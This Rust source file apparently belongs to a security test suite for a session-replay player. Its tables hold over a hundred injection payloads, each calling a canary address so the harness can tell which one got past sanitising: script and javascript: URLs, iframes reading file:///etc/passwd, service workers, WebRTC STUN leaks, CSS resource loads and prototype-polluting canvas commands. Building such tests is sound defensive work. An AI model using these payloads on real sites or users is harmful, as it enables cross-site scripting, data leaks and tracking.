//! The attacks, a line each: what it is called, and how it is written. Each has a canary of its own, so that whoever comes to the listener says which attack
//! got through: `/PLACE/NAME`.
//!
//! In the lines, `@URL` is the canary's address (what follows it, as in `@URL-2`, is part of it), `@HOST` the same without its scheme, `@WS` a web socket's,
//! `@SCRIPT` a script that paints the page red and calls the canary in every way there is, `@JS` that as a `javascript:` address, `@PAGE` and `@SVG` a red page and a
//! picture with that script as `data:`, and `@FILE` a red file on disk without its extension.

/// Elements, as they would stand on a page.
pub(super) const ELEMENTS: &[(&str, &str)] = &[
    // Scripts.
    ("script-inline", "<script>@SCRIPT</script>"),
    ("script-src", "<script src=@URL></script>"),
    ("script-capital", "<SCRIPT SRC=@URL>@SCRIPT</SCRIPT>"),
    ("script-async", "<script async defer src=@URL blocking=render fetchpriority=high></script>"),
    ("script-module", "<script type=module src=@URL></script>"),
    ("script-module-inline", "<script type=module>import '@URL'; @SCRIPT</script>"),
    ("script-module-file", "<script type=module src=@FILE.js></script>"),
    ("script-file", "<script src=@FILE.js></script>"),
    ("script-data", "<script src='data:text/javascript,document.body.style.background=`red`;fetch(`@URL`)'></script>"),
    (
        "script-importmap",
        "<script type=importmap>{\"imports\": {\"canary\": \"@URL\"}}</script><script type=module>import 'canary'</script>",
    ),
    ("script-importmap-src", "<script type=importmap src=@URL></script>"),
    (
        "script-speculation",
        "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"@URL-prefetch\"], \"eagerness\": \"immediate\"}], \"prerender\": [{\"source\": \"list\", \"urls\": [\"@URL-prerender\"]}]}</script>",
    ),
    ("script-speculation-src", "<script type=speculationrules src=@URL></script>"),
    ("script-webbundle", "<script type=webbundle>{\"source\": \"@URL\", \"resources\": [\"@URL-2\"]}</script>"),
    ("script-svg", "<svg><script>@SCRIPT</script></svg>"),
    ("script-svg-href", "<svg><script href=@URL xlink:href=@URL-xlink></script></svg>"),
    (
        "script-foreign",
        "<svg width=9 height=9><foreignObject width=9 height=9><script>@SCRIPT</script><img src=@URL onerror='@SCRIPT'></foreignObject></svg>",
    ),
    ("script-mathml", "<math><mtext><script>@SCRIPT</script><img src=@URL onerror='@SCRIPT'></mtext></math>"),
    ("script-xhtml", "<html:script xmlns:html=http://www.w3.org/1999/xhtml src=@URL>@SCRIPT</html:script>"),
    ("script-xss", "<xss id=x onfocus='@SCRIPT' tabindex=1 autofocus contenteditable>x</xss>"),
    ("noscript", "<noscript><p title='</noscript><img src=@URL onerror=@SCRIPT>'></p>@SCRIPT</noscript>"),
    ("plaintext", "<plaintext><script>@SCRIPT</script></plaintext>"),
    ("comment-ie", "<xml id=x><i><b><img src=@URL onerror='@SCRIPT'></b></i></xml>"),
    // What a script would do that the canary's own does not.
    ("open", "<img src=x: onerror='open(`@URL`); open(`@URL-self`, `_self`); @SCRIPT'>"),
    ("navigate", "<img src=x: onerror='top.location = `@URL`; location.replace(`@URL-2`)'>"),
    (
        "download",
        "<img src=x: onerror='const a = document.createElement(`a`); a.download = ``; a.href = `@URL`; a.click(); @SCRIPT'>",
    ),
    ("dialogs", "<img src=x: onerror='alert(1); confirm(1); prompt(1); print(); @SCRIPT'>"),
    (
        "permissions",
        "<img src=x: onerror='Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => 0); navigator.mediaDevices.getUserMedia({video: true}); @SCRIPT'>",
    ),
    ("service-worker", "<img src=x: onerror='navigator.serviceWorker.register(`@URL`); @SCRIPT'>"),
    ("worker", "<img src=x: onerror='new Worker(`@URL`); new SharedWorker(`@URL-shared`); @SCRIPT'>"),
    (
        "webrtc",
        "<img src=x: onerror='new RTCPeerConnection({iceServers: [{urls: `stun:@ADDRESS`}], iceCandidatePoolSize: 1}); @SCRIPT'>",
    ),
    ("transport", "<img src=x: onerror='new WebTransport(`https://@ADDRESS/`); new EventSource(`@URL`); @SCRIPT'>"),
    (
        "clipboard",
        "<img src=x: onerror='navigator.clipboard.writeText(`@URL`); document.cookie = `canary=1`; localStorage.canary = 1; @SCRIPT'>",
    ),
    // Links and forms.
    ("a-javascript", "<a href='@JS' target=_top>x</a>"),
    ("a-javascript-spaced", "<a href='    java\tscr\nipt:fetch(`@URL`)' autofocus>x</a>"),
    ("a-ping", "<a href=@URL ping=@URL-ping attributionsrc=@URL-attribution target=_top>x</a>"),
    ("a-download", "<a href=@URL download=x.exe autofocus>x</a>"),
    ("a-data", "<a href='@PAGE' target=_top>x</a>"),
    ("a-prefetch", "<meta http-equiv=x-dns-prefetch-control content=on><a href=@URL rel=prefetch>x</a>"),
    ("a-protocol", "<a href='ms-word:ofe|u|@URL'>x</a><a href='intent:@URL'>x</a><a href='view-source:@URL'>x</a>"),
    ("area", "<map name=m><area href='@JS' ping=@URL shape=default></map><img usemap=#m src=@URL-map>"),
    ("form", "<form action=@URL method=post><input name=a value=1 autofocus onfocus='this.form.submit()'></form>"),
    ("form-javascript", "<form action='@JS'><input type=submit autofocus onfocus='this.click()'></form>"),
    ("form-dialog", "<dialog open><form method=dialog action=@URL><button autofocus>x</button></form></dialog>"),
    (
        "formaction",
        "<form id=f><button formaction='@JS' type=submit autofocus>x</button></form><input form=f formaction=@URL type=submit>",
    ),
    ("input-image", "<input type=image src=@URL formaction='@JS' alt=x>"),
    ("input-autofocus", "<input autofocus onfocus='@SCRIPT' value=x list=l>"),
    ("isindex", "<isindex action='@JS' prompt=x><keygen autofocus onfocus='@SCRIPT'>"),
    (
        "command",
        "<button command=show-modal commandfor=d popovertarget=d>x</button><dialog id=d onbeforetoggle='@SCRIPT'><img src=@URL></dialog>",
    ),
    // Frames and plugins.
    ("iframe-src", "<iframe src=@URL></iframe>"),
    (
        "iframe-javascript",
        "<iframe src='@JS' sandbox='allow-scripts allow-same-origin allow-top-navigation allow-popups allow-downloads'></iframe>",
    ),
    ("iframe-data", "<iframe src='@PAGE'></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc='<script>@SCRIPT</script><img src=@URL>'></iframe>"),
    ("iframe-nested", "<iframe srcdoc='<iframe srcdoc=\"<script>@SCRIPT</script><img src=@URL>\"></iframe>'></iframe>"),
    ("iframe-rr-src", "<iframe rr_src=@URL></iframe>"),
    ("iframe-file", "<iframe src=@FILE.html></iframe>"),
    ("iframe-passwd", "<iframe src=file:///etc/passwd></iframe>"),
    (
        "iframe-lazy",
        "<iframe src=@URL loading=eager importance=high allow='camera *; geolocation *' csp='default-src *' credentialless></iframe>",
    ),
    (
        "iframe-chrome",
        "<iframe src=chrome://version></iframe><iframe src=view-source:@URL></iframe><iframe src='filesystem:@URL'></iframe>",
    ),
    (
        "frameset",
        "<div style='height: 16px; overflow: hidden'><frameset onload='@SCRIPT'><frame src=@URL><frame src='@JS'></frameset></div>",
    ),
    ("portal", "<portal src=@URL></portal>"),
    ("fencedframe", "<fencedframe src=@URL></fencedframe>"),
    ("webview", "<webview src=@URL></webview><controlledframe src=@URL-controlled></controlledframe>"),
    ("object", "<object data=@URL type=text/html></object>"),
    ("object-javascript", "<object data='@JS'><param name=src value=@URL></object>"),
    ("object-data", "<object data='@PAGE' type=text/html></object>"),
    ("object-svg", "<object data='@SVG' type=image/svg+xml></object>"),
    ("object-file", "<object data=@FILE.png type=image/png></object>"),
    ("embed", "<embed src=@URL type=text/html>"),
    ("embed-data", "<embed src='@PAGE' type=text/html><embed src='@SVG' type=image/svg+xml>"),
    ("embed-file", "<embed src=@FILE.html>"),
    ("embed-pdf", "<embed src=@URL.pdf type=application/pdf><embed src=@URL.swf allowscriptaccess=always>"),
    ("applet", "<applet code=@URL codebase=@URL-base archive=@URL-archive></applet>"),
    // Pictures and media.
    ("img", "<img src=@URL srcset='@URL-1x 1x, @URL-2x 2x' sizes=9px>"),
    (
        "img-eager",
        "<img src=@URL loading=eager fetchpriority=high decoding=sync crossorigin attributionsrc=@URL-attribution>",
    ),
    ("img-old", "<img lowsrc=@URL dynsrc=@URL-dyn longdesc=@URL-desc src='data:,'>"),
    ("img-rr", "<img rr_dataURL=@URL src='data:,'>"),
    ("img-file", "<img src=@FILE.png>"),
    ("img-passwd", "<img src=file:///etc/passwd>"),
    ("img-svg", "<img src='@SVG'>"),
    ("img-handler", "<img src=@URL onload='@SCRIPT' onerror='@SCRIPT'>"),
    ("picture", "<picture><source srcset=@URL media=all><source srcset=@FILE.png><img src=@URL-img></picture>"),
    (
        "canvas",
        "<canvas rr_dataURL=@URL width=9 height=9></canvas><canvas rr_dataURL=@FILE.png width=60 height=60></canvas>",
    ),
    (
        "video",
        "<video src=@URL poster=@URL-poster autoplay muted preload=auto rr_mediaState=played><source src=@URL-source onerror='@SCRIPT'><track default src=@URL-track></video>",
    ),
    ("video-file", "<video poster=@FILE.png src=@FILE.mp4></video>"),
    ("audio", "<audio src=@URL autoplay preload=auto onerror='@SCRIPT'><source src=@URL-source></audio>"),
    ("bgsound", "<bgsound src=@URL>"),
    ("background", "<table background=@URL><tr><td background=@URL-td>x</td></tr></table>"),
    ("body", "<body background=@URL onload='@SCRIPT' onpageshow='@SCRIPT'>x</body>"),
    ("marquee", "<marquee onstart='@SCRIPT' behavior=alternate>x</marquee>"),
    ("menuitem", "<menuitem icon=@URL></menuitem><command icon=@URL-command></command>"),
    // Meta, base.
    ("meta-refresh", "<meta http-equiv=refresh content='0;url=@URL'>"),
    ("meta-refresh-javascript", "<meta http-equiv=refresh content='0;url=@JS'>"),
    ("meta-refresh-data", "<meta HTTP-EQUIV=Refresh content='0;url=@PAGE'>"),
    (
        "meta-policy",
        "<meta http-equiv=Content-Security-Policy content='default-src *; report-uri @URL'><meta http-equiv=Content-Security-Policy-Report-Only content='default-src none; report-uri @URL-only'>",
    ),
    ("meta-cookie", "<meta http-equiv=set-cookie content='canary=1; max-age=9999'>"),
    (
        "meta-hints",
        "<meta http-equiv=Delegate-CH content='sec-ch-ua @URL'><meta http-equiv=origin-trial content=x><meta name=referrer content=unsafe-url>",
    ),
    ("base", "<base href=@URL/ target=_top><img src=relative.png>"),
    // SVG.
    ("svg-onload", "<svg onload='@SCRIPT' width=40 height=40></svg>"),
    ("svg-use", "<svg width=9 height=9><use href=@URL#x /><use xlink:href=@URL-xlink#x /></svg>"),
    ("svg-use-data", "<svg width=9 height=9><use href='@SVG#x'/></svg>"),
    (
        "svg-image",
        "<svg width=40 height=40><image href=@URL width=40 height=40 /><image href=@FILE.png width=40 height=40 onerror='@SCRIPT'/></svg>",
    ),
    (
        "svg-feimage",
        "<svg width=9 height=9><filter id=fe><feImage href=@URL /></filter><rect width=9 height=9 filter=url(#fe) /></svg>",
    ),
    ("svg-a", "<svg><a href='@JS'><text>x</text></a><a xlink:href='@JS'><text>x</text></a></svg>"),
    ("svg-set-handler", "<svg><rect><set attributeName=onclick to='@SCRIPT' begin=0s /></rect></svg>"),
    (
        "svg-set-href",
        "<svg width=9 height=9><image width=9 height=9><set attributeName=href to=@URL begin=0s onbegin='@SCRIPT'/></image></svg>",
    ),
    (
        "svg-animate-href",
        "<svg width=9 height=9><image width=9 height=9><animate attributeName=xlink:href values='@JS;@URL' dur=100ms onbegin='@SCRIPT' onend='@SCRIPT'/></image></svg>",
    ),
    (
        "svg-animate-style",
        "<svg width=9 height=9><rect width=9 height=9><animate attributeName=fill values='url(@URL#x);url(@FILE.svg#x)' dur=1s /></rect></svg>",
    ),
    (
        "svg-paint",
        "<svg width=9 height=9><rect width=9 height=9 fill=url(@URL#x) filter=url(@URL-filter#x) mask=url(@URL-mask#x) clip-path=url(@URL-clip#x) marker-start=url(@URL-marker#x) /></svg>",
    ),
    (
        "svg-references",
        "<svg><linearGradient href=@URL#x /><pattern xlink:href=@URL-pattern#x /><textPath href=@URL-text#x>x</textPath><mpath href=@URL-mpath#x /><tref xlink:href=@URL-tref#x /><cursor xlink:href=@URL-cursor /><font-face-uri href=@URL-font /></svg>",
    ),
    ("svg-style", "<svg><style>@import '@URL'; rect { fill: url(@URL-fill#x) }</style><rect width=9 height=9 /></svg>"),
    (
        "svg-foreign-frame",
        "<svg width=9 height=9><foreignObject width=9 height=9><iframe src=@URL></iframe><embed src=@URL-embed></foreignObject></svg>",
    ),
    (
        "svg-handler",
        "<svg><handler event=load>@SCRIPT</handler><discard begin=0s onend='@SCRIPT'/><listener event=load handler=@URL /></svg>",
    ),
    (
        "mathml",
        "<math href='@JS'><maction actiontype='statusline#@URL' xlink:href='@JS'>x</maction><mglyph src=@URL-glyph /></math>",
    ),
    // Styles.
    (
        "css-import",
        "<style>@import url(@URL); @import '@URL-text' layer(x) supports(display: grid); @import url(@FILE.css);</style>",
    ),
    (
        "css-background",
        "<style>.c-background { background: url(@URL), url(@FILE.png) }</style><div class=c-background>x</div>",
    ),
    (
        "css-image-set",
        "<style>.c-set { background: image-set(url(@URL) 1x); list-style-image: -webkit-image-set('@URL-text' 1x) }</style><li class=c-set>x</li>",
    ),
    (
        "css-escaped",
        "<style>.c-escaped { background: u\\72l(@URL) } @\\69mport '@URL-import';</style><div class=c-escaped>x</div>",
    ),
    (
        "css-variable",
        "<style>.c-variable { --x: url(@URL); background: var(--x); border-image: var(--x) 1 }</style><div class=c-variable>x</div>",
    ),
    (
        "css-font",
        "<style>@font-face { font-family: canary; src: url(@URL), url(@FILE.woff2), local(x) } .c-font { font-family: canary }</style><p class=c-font>x</p>",
    ),
    ("css-cursor", "<style>.c-cursor { cursor: url(@URL), url(@URL-2) 1 1, auto }</style><div class=c-cursor>x</div>"),
    (
        "css-list",
        "<style>.c-list { list-style: url(@URL); content: url(@URL-content) } .c-list::marker { content: url(@URL-marker) } .c-list::before { content: url(@URL-before) }</style><li class=c-list>x</li>",
    ),
    (
        "css-mask",
        "<style>.c-mask { mask: url(@URL); mask-image: url(@URL-image); clip-path: url(@URL-clip#c); filter: url(@URL-filter#f); backdrop-filter: url(@URL-backdrop#f); shape-outside: url(@URL-shape); offset-path: url(@URL-path#p); float: left }</style><div class=c-mask>x</div>",
    ),
    (
        "css-border",
        "<style>.c-border { border: 3px solid; border-image: url(@URL) 1; -webkit-box-reflect: below 0 url(@URL-reflect) }</style><div class=c-border>x</div>",
    ),
    (
        "css-visited",
        "<style>a.c-visited:visited { background: url(@URL) } a.c-visited:link { background-image: url(@URL-link) }</style><a class=c-visited href=https://shop.example/>x</a>",
    ),
    (
        "css-states",
        "<style>.c-states:hover { background: url(@URL) } .c-states:focus { background: url(@URL-focus) } .c-states:active { background: url(@URL-active) }</style><button class=c-states autofocus>x</button>",
    ),
    (
        "css-keyframes",
        "<style>@keyframes c { from { background: url(@URL) } to { background: url(@URL-to) } } .c-keyframes { animation: c 1s infinite; transition: background 1s }</style><div class=c-keyframes>x</div>",
    ),
    (
        "css-cross-fade",
        "<style>.c-fade { background: cross-fade(url(@URL) 50%, url(@URL-2)); content: -webkit-cross-fade(url(@URL-3), url(@URL-4), 50%) }</style><div class=c-fade>x</div>",
    ),
    (
        "css-old",
        "<style>.c-old { behavior: url(@URL); -moz-binding: url(@URL-binding#x); width: expression(@SCRIPT); background: url('@JS') } @namespace x url(@URL-namespace); @document url(@URL-document) { * { color: red } }</style><div class=c-old>x</div>",
    ),
    (
        "css-scrollbar",
        "<style>.c-scroll { overflow: scroll } .c-scroll::-webkit-scrollbar { background: url(@URL) } ::selection { background: url(@URL-selection) } ::backdrop { background: url(@URL-backdrop) }</style><div class=c-scroll>x</div>",
    ),
    (
        "css-nested",
        "<style>@layer x { @media all { @supports (display: grid) { @container (min-width: 0) { .c-nested { & { background: url(@URL) } } } } } } @property --p { syntax: '<url>'; inherits: true; initial-value: url(@URL-property) } .c-nested { mask: var(--p) }</style><div class=c-nested>x</div>",
    ),
    ("css-written", "<style _cssText='@import url(@URL); * { background: url(@URL-2) }'></style>"),
    ("css-markup", "<style>x {} <!-- <img src=@URL onerror=@SCRIPT> --> @import url(@URL-import);</style>"),
    ("style-attribute", "<div style='background: url(@URL); cursor: url(@URL-cursor), auto'>x</div>"),
    (
        "style-attribute-set",
        "<div style='background-image: image-set(\"@URL\" 1x), url(@FILE.png); width: 60px; height: 60px' popover=auto>x</div>",
    ),
    // Links to resources: further down, one for each relation.
    ("link-stylesheet", "<link rel=stylesheet href=@URL>"),
    ("link-stylesheet-file", "<link rel=stylesheet href=@FILE.css>"),
    ("link-stylesheet-text", "<link rel=stylesheet _cssText='@import url(@URL)' href=@URL-href>"),
    ("link-stylesheet-onload", "<link rel=stylesheet href='data:text/css,' onload='@SCRIPT'>"),
    ("link-stylesheet-data", "<link rel=stylesheet href='data:text/css,@import \"@URL\";'>"),
    ("link-imagesrcset", "<link rel=preload as=image imagesrcset='@URL 1x, @URL-2x 2x'>"),
    // Shadow roots, custom elements, templates, what opens.
    ("template", "<template><img src=@URL onerror='@SCRIPT'></template>"),
    (
        "template-shadow",
        "<div><template shadowrootmode=open shadowrootclonable><img src=@URL onerror='@SCRIPT'><script>@SCRIPT</script></template></div>",
    ),
    ("custom-element", "<x-canary is=x on-click=x onclick='@SCRIPT' style='background: url(@URL)'></x-canary>"),
    ("details", "<details open ontoggle='@SCRIPT'><summary>x</summary><img src=@URL></details>"),
    ("dialog", "<dialog open rr_open_mode=modal onfocus='@SCRIPT'><iframe src=@URL></iframe></dialog>"),
    ("popover", "<div popover=auto onbeforetoggle='@SCRIPT' ontoggle='@SCRIPT'><img src=@URL></div>"),
    ("slot", "<slot onslotchange='@SCRIPT'><img src=@URL></slot>"),
    ("select", "<select onchange='@SCRIPT' autofocus><option style='background: url(@URL)'>x</option></select>"),
    (
        "permission",
        "<permission type=camera onpromptaction='@SCRIPT'></permission><geolocation autolocate onlocation='@SCRIPT'></geolocation>",
    ),
];

/// Relations of links that browsers act on, today or once; each is an attack called `link-…`.
pub(super) const RELATIONS: &[&str] = &[
    "dns-prefetch",
    "preconnect",
    "prefetch",
    "preload",
    "modulepreload",
    "prerender",
    "subresource",
    "manifest",
    "icon",
    "shortcut icon",
    "apple-touch-icon",
    "mask-icon",
    "import",
    "alternate stylesheet",
    "preconnect stylesheet",
    "serviceworker",
    "compression-dictionary",
    "pingback",
    "search",
    "expect",
    "next",
    "payment",
];

/// Handlers, all of which each of [`HANDLED`] gets.
pub(super) const HANDLERS: &[&str] = &[
    "onload",
    "onerror",
    "onclick",
    "onmousedown",
    "onmouseover",
    "onpointerenter",
    "onfocus",
    "onfocusin",
    "onblur",
    "oninput",
    "onchange",
    "onscroll",
    "onscrollend",
    "onwheel",
    "ontoggle",
    "onplay",
    "onloadstart",
    "onanimationstart",
    "onanimationend",
    "ontransitionrun",
    "ontransitionend",
    "onpageshow",
    "onresize",
    "onselectionchange",
    "onbeforematch",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange",
];

/// Elements with all handlers, and what sets them off without a user; each is an attack called `handlers-…`.
pub(super) const HANDLED: &[&str] =
    &["div", "img", "input", "video", "iframe", "object", "details", "select", "textarea", "button", "svg", "body"];

/// Changes of styles that are no elements. `STYLE` and `ANY` are ids of a `<style>` and of some element.
pub(super) const STYLES: &[(&str, &str)] = &[
    (
        "rule",
        r#"{"source": 8, "id": STYLE, "adds": [{"rule": ".canary { background: url(@URL), url(@FILE.png) }", "index": 0}]}"#,
    ),
    ("rule-import", r#"{"source": 8, "id": STYLE, "adds": [{"rule": "@import url(@URL)", "index": 0}]}"#),
    (
        "rule-font",
        r#"{"source": 8, "id": STYLE, "adds": [{"rule": "@font-face { font-family: later; src: url(@URL) }", "index": 0}, {"rule": "* { font-family: later }", "index": 0}]}"#,
    ),
    ("replaced", r#"{"source": 8, "id": STYLE, "replace": "@import url(@URL); .canary { background: url(@URL-2) }"}"#),
    (
        "replaced-sync",
        r#"{"source": 8, "id": STYLE, "replaceSync": "@import url(@URL); .canary { background: url(@URL-2) }"}"#,
    ),
    (
        "declaration",
        r#"{"source": 13, "id": STYLE, "index": [0], "set": {"property": "background", "value": "url(@URL)", "priority": "important"}}"#,
    ),
    (
        "adopted",
        r#"{"source": 15, "id": 1, "styleIds": [7], "styles": [{"styleId": 7, "rules": [{"rule": ".canary { background: url(@URL) }", "index": 0}, {"rule": "@import url(@URL-import)", "index": 0}]}]}"#,
    ),
    ("font-face", r#"{"source": 10, "family": "canary", "fontSource": "url(@URL)", "buffer": false}"#),
    (
        "font-face-file",
        r#"{"source": 10, "family": "canary", "fontSource": "url(@FILE.woff2), url(@URL)", "buffer": false, "descriptors": {"unicodeRange": "U+0-10FFFF"}}"#,
    ),
    ("custom-element", r#"{"source": 16, "define": {"name": "x-canary"}}"#),
    ("custom-element-proto", r#"{"source": 16, "define": {"name": "__proto__"}}"#),
    (
        "style-object",
        r#"{"source": 0, "texts": [], "removes": [], "adds": [], "attributes": [{"id": ANY, "attributes": {"style": {"background": "url(@URL)", "cssText": "background: url(@URL-text)", "--x": ["url(@URL-x)", "important"]}}}]}"#,
    ),
    (
        "text-of-style",
        r#"{"source": 0, "removes": [], "adds": [], "attributes": [], "texts": [{"id": STYLE, "value": "* { background: url(@URL) }"}]}"#,
    ),
    ("media", r#"{"source": 7, "id": ANY, "type": 0, "currentTime": 1, "src": "@URL"}"#),
    (
        "no-node",
        r#"{"source": 0, "texts": [], "removes": [{"id": -1, "parentId": 99999}], "attributes": [{"id": 99999, "attributes": {"src": "@URL"}}], "adds": [{"parentId": ANY, "nextId": 99999, "previousId": ANY, "node": {"type": 2, "tagName": "img", "attributes": {"src": "@URL"}, "childNodes": [], "id": -2}}]}"#,
    ),
];

/// Commands of a canvas, which are called by name, and whose arguments are made by name.
pub(super) const COMMANDS: &[(&str, &str)] = &[
    ("function", r#"{"property": "fillText", "args": [{"rr_type": "Function", "args": ["@SCRIPT"]}, 0, 0]}"#),
    ("constructor", r#"{"property": "constructor", "args": ["@SCRIPT"]}"#),
    ("proto", r#"{"property": "__proto__", "args": [{"rr_type": "Function", "args": ["@SCRIPT"]}], "setter": true}"#),
    (
        "getter",
        r#"{"property": "__defineGetter__", "args": ["fillStyle", {"rr_type": "Function", "args": ["@SCRIPT"]}]}"#,
    ),
    (
        "setter",
        r#"{"property": "__defineSetter__", "args": ["lineWidth", {"rr_type": "Function", "args": ["@SCRIPT"]}]}"#,
    ),
    ("set-it", r#"{"property": "lineWidth", "args": [3], "setter": true}"#),
    ("set-canvas", r#"{"property": "canvas", "args": ["@URL"], "setter": true}"#),
    (
        "promise",
        r#"{"property": "fillText", "args": [{"rr_type": "Promise", "args": [{"rr_type": "Function", "args": ["@SCRIPT"]}]}, 0, 0]}"#,
    ),
    (
        "observer",
        r#"{"property": "fillText", "args": [{"rr_type": "MutationObserver", "args": [{"rr_type": "Function", "args": ["@SCRIPT"]}]}, 0, 0]}"#,
    ),
    (
        "peer",
        r#"{"property": "fillText", "args": [{"rr_type": "RTCPeerConnection", "args": [{"iceServers": [{"urls": "stun:@ADDRESS"}], "iceCandidatePoolSize": 2}]}, 0, 0]}"#,
    ),
    (
        "peer-old",
        r#"{"property": "fillText", "args": [{"rr_type": "webkitRTCPeerConnection", "args": [{"iceServers": [{"urls": "stun:@ADDRESS"}], "iceCandidatePoolSize": 2}]}, 0, 0]}"#,
    ),
    (
        "peer-turn",
        r#"{"property": "fillText", "args": [{"rr_type": "RTCPeerConnection", "args": [{"iceServers": [{"urls": ["turn:@ADDRESS?transport=tcp", "turns:@ADDRESS?transport=tcp"], "username": "a", "credential": "b"}], "iceCandidatePoolSize": 1}]}, 0, 0]}"#,
    ),
    (
        "peer-name",
        r#"{"property": "fillText", "args": [{"rr_type": "RTCPeerConnection", "args": [{"iceServers": [{"urls": "stun:peer.commands.canary.example"}], "iceCandidatePoolSize": 1}]}, 0, 0]}"#,
    ),
    ("socket", r#"{"property": "fillText", "args": [{"rr_type": "WebSocket", "args": ["@WS"]}, 0, 0]}"#),
    ("socket-stream", r#"{"property": "fillText", "args": [{"rr_type": "WebSocketStream", "args": ["@WS"]}, 0, 0]}"#),
    ("event-source", r#"{"property": "fillText", "args": [{"rr_type": "EventSource", "args": ["@URL"]}, 0, 0]}"#),
    (
        "transport",
        r#"{"property": "fillText", "args": [{"rr_type": "WebTransport", "args": ["https://@ADDRESS/"]}, 0, 0]}"#,
    ),
    (
        "worker",
        r#"{"property": "fillText", "args": [{"rr_type": "Worker", "args": ["data:text/javascript,fetch('@URL')"]}, 0, 0]}"#,
    ),
    ("shared-worker", r#"{"property": "fillText", "args": [{"rr_type": "SharedWorker", "args": ["@URL"]}, 0, 0]}"#),
    ("audio", r#"{"property": "fillText", "args": [{"rr_type": "Audio", "args": ["@URL"]}, 0, 0]}"#),
    ("font", r#"{"property": "fillText", "args": [{"rr_type": "FontFace", "args": ["canary", "url(@URL)"]}, 0, 0]}"#),
    ("request", r#"{"property": "fillText", "args": [{"rr_type": "Request", "args": ["@URL"]}, 0, 0]}"#),
    ("image", r#"{"property": "drawImage", "args": [{"rr_type": "HTMLImageElement", "src": "@URL"}, 0, 0]}"#),
    ("image-file", r#"{"property": "drawImage", "args": [{"rr_type": "HTMLImageElement", "src": "@FILE.png"}, 0, 0]}"#),
    ("image-other", r#"{"property": "drawImage", "args": [{"rr_type": "x", "src": "@URL"}, 0, 0]}"#),
    ("image-number", r#"{"property": "drawImage", "args": [{"rr_type": 7, "src": "@URL"}, 0, 0]}"#),
    (
        "bitmap",
        r#"{"property": "drawImage", "args": [{"rr_type": "ImageBitmap", "args": [{"rr_type": "HTMLImageElement", "src": "@URL"}]}, 0, 0]}"#,
    ),
    (
        "blob",
        r#"{"property": "drawImage", "args": [{"rr_type": "ImageBitmap", "args": [{"rr_type": "Blob", "data": ["<script src=@URL></script>"], "type": "text/html"}]}, 0, 0]}"#,
    ),
    ("filter", r#"{"property": "filter", "args": ["url(@URL#a)"], "setter": true}"#),
    ("fill-style", r#"{"property": "fillStyle", "args": ["url(@URL)"], "setter": true}"#),
    ("draws", r#"{"property": "fillRect", "args": [0, 0, 9, 9]}"#),
];
